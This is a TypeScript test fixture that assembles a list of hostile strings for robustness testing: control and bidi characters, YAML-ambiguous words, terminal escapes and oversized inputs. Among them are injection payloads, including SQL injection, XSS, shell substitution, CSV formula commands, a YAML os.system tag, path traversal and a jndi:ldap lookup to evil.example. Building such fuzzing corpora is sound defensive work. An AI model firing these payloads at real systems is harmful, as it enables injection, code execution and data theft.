/** Code points that terminals, editors and parsers treat specially; each is tried alone and within a word. */
const special = `
  00 01 07 08 09 0a 0b 0c 0d 0e 1a 1b 1c 1f 7f 80 84 85 8d 90 98 9b 9c 9d 9e 9f a0 ad 34f 61c 115f 1160 1680 17b4 180e
  2000 2007 200b 200c 200d 200e 200f 2028 2029 202a 202b 202c 202d 202e 202f 205f 2060 2061 2066 2067 2068 2069 206a 206f
  3000 3164 d800 dbff dc00 dfff fe00 fe0f feff ffa0 fff9 fffb fffd fffe ffff 1d173 1fffe e0001 e0041 e007f e0100 10ffff`;

/** Words that some parser, shell or file system takes for something else. */
const words = String.raw`
  y Y n N yes Yes no NO on On off OFF True FALSE true false Null NULL null ~ nan .nan .inf -.inf inf undefined NaN Infinity
  0 -0 00 007 0o17 0x1F 0b101 1_000 1e3 1E3 1. .5 1.33 1.30 1.0 12:30 190:20:30 1:00 2026-12-02 2026-12-02T00:00:00Z 08
  09.5 0.1e-7 +1 +.5 0. e1 1e 0xZZ << = --- ... - ? : # a: &a *a ! | > |- >+2 @a { } [ ] , 'a' '' ' "a <tag:x> !<tag:x>
  ../ ../../../../etc/passwd .. . ./ / // /etc/passwd C:\Windows\System32 C: ..\..\x a/b a\b a:b file:///etc/passwd ~root
  -rf --help con CON Con nul NUL.txt aux prn com1 COM9 lpt1 conin$ a. trailing. .hidden $HOME %PATH% a*b? name<>| x.yaml
  X.YAML Prod prod PROD pro-d pro_d prod-0123456789abcdef __proto__ constructor prototype toString hasOwnProperty valueOf
  __defineGetter__ length @everyone #1 GH-1 javascript:alert(1) https://evil.example www.evil.example mail@evil.example
  WWW.EVIL.EXAMPLE [click](https://evil.example) ![x](https://evil.example/x.png) **bold** __b__ * _ a_b_c ~~gone~~ a|b a\|b \| \\| |---| === <br> <b> &amp; &lt;b&gt; &#39; $x^2$ :smile: %s%s%n
  %00 \u0000 \0 {0} {} ?a=b&c=d a%2e%2e%2f %2e%2e/ -->x <!-- --> ]]> </script> <script>alert(1)</script> \x1b[31m \n \
  \\ a\ \u{202e} =1+1 +1+1 -1+1 @SUM(1,1) '=1+1 " "" """ a"b a,b a;b ;=1+1 ,=1+1 |=1+1 x,=1+1 x";=1+1;" "=1+1" ＝1+1 ＋1
  －1 ＠SUM + @ -12 %0A=1+1 $(id) $'\x41' !! !1 a'b a''b '$(id)' \' FOO=bar =ls if then {a,b} [a-z] {{7*7}} #{7*7}
  шалом שלום مرحبا नमस्ते 日本語 한국어 ﷺ 👩‍👩‍👧‍👦 🇩🇪 ❤️ ❤ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 İstanbul ıstanbul straße STRASSE
  ﬁle pｒod pрod e\u0301 é [object`;

const phrases = [
  "\u001b[31mred\u001b[0m",
  "\u001b[2J\u001b[H",
  "\u001b[1A\u001b[2K",
  "\u001b[8mhidden\u001b[28m",
  "\u001b]0;title\u0007",
  "\u001b]52;c;ZXZpbA==\u0007",
  "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
  "\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\",
  "\u001bP$q\u001b\\",
  "\u009b31mred",
  "\u009d0;title\u009c",
  "ok\rfake",
  "ok\r\nfake",
  "line\nbreak",
  "back\b\b\bspace",
  "\u0301accent first",
  "z\u0310\u0311\u0312\u0313",
  "\u202egpj.exe",
  "user\u202e\u2066// admin\u2069\u2066",
  "\ud83d\u001b",
  "\udc00\ud800",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","x")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  " lead",
  "trail ",
  " ",
  "  ",
  "+49 30 1234",
  "a\r\nb,c",
  "- a",
  "? a",
  ": a",
  "a: b",
  "a :b",
  "a #b",
  "&a *a",
  "!!python/object/apply:os.system ['id']",
  "%YAML 1.1",
  "{a: b}",
  "[a, b]",
  "a\nb: c",
  "\n---\nkind: Secret",
  "a\n",
  "\na",
  "a\n\nb",
  "  indented\n more",
  "key: |\n  block",
  "2001-12-14 21:59:43",
  "'; DROP TABLE clusters;--",
  "' OR '1'='1",
  "; id",
  "&& id",
  "> /tmp/x",
  "<img src=x onerror=alert(1)>",
  "<%= 1 %>",
  "{{constructor.constructor('return 1')()}}",
  "[x]: https://evil.example",
  "| a | b |",
  "# heading",
  "> quote",
  "- item",
  "+ item",
  "1. item",
  "1) item",
  "    code",
  "` ",
  "``",
  "```",
  "`id`",
  "a`b``c",
  ["$", "{7*7}"].join(""),
  ["$", "{jndi:ldap://evil.example/a}"].join(""),
  "a ",
];

const long = [
  "x".repeat(10_240),
  "=".repeat(10_240),
  "\u001b[31m".repeat(2_048),
  "日".repeat(3_414),
  "👩‍👩‍👧‍👦".repeat(400),
  "`".repeat(1_000),
  "\u202e".repeat(3_000),
  '"'.repeat(5_000),
  "\\".repeat(5_000),
  "a\u0301".repeat(3_000),
  "a b ".repeat(2_560),
  "*a".repeat(2_000),
  "\n".repeat(5_000),
  "'".repeat(5_000),
  "k".repeat(1_024),
  "k".repeat(1_000),
  "k".repeat(998),
];

/**
 * Texts that a name, tag or message may hold because somebody wants harm or simply does not know better: terminal
 * control, bidi, invisible and lone surrogates, formulas, paths, prototype keys, what YAML reads as something else, and
 * injections into shells, templates, Markdown and HTML. No text twice.
 */
export const hostileStrings: readonly string[] = [
  ...new Set([
    "",
    ...listed(special).flatMap((hex) => {
      const character = String.fromCodePoint(Number.parseInt(hex, 16));
      return [character, `a${character}b`];
    }),
    ...listed(words),
    ...phrases,
    ...long,
  ]),
];

function listed(text: string): string[] {
  return text.trim().split(/[ \n]+/);
}
